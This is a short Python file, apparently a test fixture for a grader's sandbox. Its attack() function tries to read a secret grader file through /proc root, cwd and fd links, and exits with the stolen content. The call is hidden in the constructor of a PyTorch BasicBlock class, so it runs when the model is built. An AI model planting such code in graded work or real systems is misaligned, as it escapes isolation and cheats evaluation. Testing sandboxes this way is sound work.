"""Reach a file of the grader's by the magic links of /proc."""

import contextlib
import os
from pathlib import Path

from torch import nn

SECRET = "@SECRET@"
GRADER = "@GRADER@"


def attack():
    for process in ("self", "thread-self", str(os.getppid()), GRADER, "1"):
        for link in ("root", "cwd"):
            with contextlib.suppress(OSError):
                raise SystemExit("ATTACK SUCCEEDED: " + Path(f"/proc/{process}/{link}{SECRET}").read_text())
        with contextlib.suppress(OSError):
            for number in os.listdir(f"/proc/{process}/fd"):
                raise SystemExit("ATTACK SUCCEEDED: " + os.readlink(f"/proc/{process}/fd/{number}"))


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        attack()
